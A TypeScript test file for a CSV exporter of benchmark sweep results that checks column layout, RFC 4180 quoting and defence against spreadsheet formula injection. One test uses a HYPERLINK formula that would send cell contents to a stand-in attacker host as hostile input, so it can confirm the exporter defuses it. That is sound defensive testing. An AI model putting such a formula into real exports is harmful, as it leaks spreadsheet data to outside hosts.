import { describe, expect, it } from 'vitest';
import { sweepCsv } from './sweep-csv';
import type { SweepPoint } from './sweep-point';

const device = { name: 'd' };
const points: SweepPoint[] = [
  {
    value: 1024,
    bytesUp: 8192,
    bytesDown: 4096,
    local: { status: 'done', backend: 'webgpu', device, phases: { uploadMs: 1, kernelMs: 2, downloadMs: 3 } },
    remote: {
      status: 'done',
      backend: 'cpu',
      device,
      phases: { uploadMs: 0.5, kernelMs: 1, downloadMs: 0.5, transportMs: 2 },
    },
  },
  {
    value: 4096,
    bytesUp: 1,
    bytesDown: 2,
    local: { status: 'error', message: 'lost, then "gone"' },
    remote: { status: 'done', backend: 'cpu', device, phases: { uploadMs: 1, kernelMs: 1, downloadMs: 1 } },
  },
];

describe('sweepCsv', () => {
  it('writes one row per point with both sides’ phases and totals', () => {
    const lines = sweepCsv(points, 'N').split('\r\n');
    expect(lines[0]).toBe(
      'N,bytes_up,bytes_down,local_upload_ms,local_kernel_ms,local_download_ms,local_total_ms,local_error,remote_upload_ms,remote_kernel_ms,remote_download_ms,remote_transport_ms,remote_total_ms,remote_error',
    );
    expect(lines[1]).toBe('1024,8192,4096,1,2,3,6,,0.5,1,0.5,2,4,');
    expect(lines.at(-1)).toBe('');
  });

  it('puts a failed side’s message in its error column, quoted as RFC 4180 asks', () => {
    const row = sweepCsv(points, 'N').split('\r\n')[2]!;
    expect(row).toBe('4096,1,2,,,,,"lost, then ""gone""",1,1,1,,3,');
    expect(row.split(',').length).toBeGreaterThanOrEqual(14);
  });
});

describe('sweepCsv on a shared sweep (text a stranger wrote)', () => {
  it('defuses an error message or parameter name a spreadsheet would run as a formula', () => {
    const hostile: SweepPoint[] = [
      { ...points[1]!, local: { status: 'error', message: '=HYPERLINK("http://evil.example/?"&A1,"ok")' } },
    ];
    const [header, row] = sweepCsv(hostile, '@SUM(A1:A9)').split('\r\n');
    expect(header!.startsWith("'@SUM(A1:A9),")).toBe(true);
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""ok"")"`);
  });

  it('leaves numbers, negative ones included, as numbers', () => {
    const negative: SweepPoint[] = [{ ...points[1]!, value: -4 }];
    expect(sweepCsv(negative, 'N').split('\r\n')[1]!.startsWith('-4,')).toBe(true);
  });
});
